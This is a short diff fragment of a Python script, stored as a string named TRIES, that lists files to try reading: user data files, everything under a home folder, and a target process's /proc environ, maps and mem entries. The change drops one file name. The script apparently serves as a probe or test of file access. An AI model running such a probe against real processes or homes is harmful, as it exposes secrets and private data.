@@ -31,7 +31,7 @@ TRIES = textwrap.dedent("""
     import glob, http.client, itertools, os, sys
     home, pid, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     tried = 0
-    names = ["settings.toml", "logs/checkin.csv", "ledger.jsonl", "doors.json", "browsers.json", "answers.csv"]
+    names = ["settings.toml", "logs/checkin.csv", "ledger.jsonl", "browsers.json", "answers.csv"]
     files = [os.path.join(home, name) for name in names]
     files += [os.path.join(folder, name) for folder, _, found in os.walk(home) for name in found]
     files += [f"/proc/{pid}/{name}" for name in ("cmdline", "environ", "maps", "mem")]
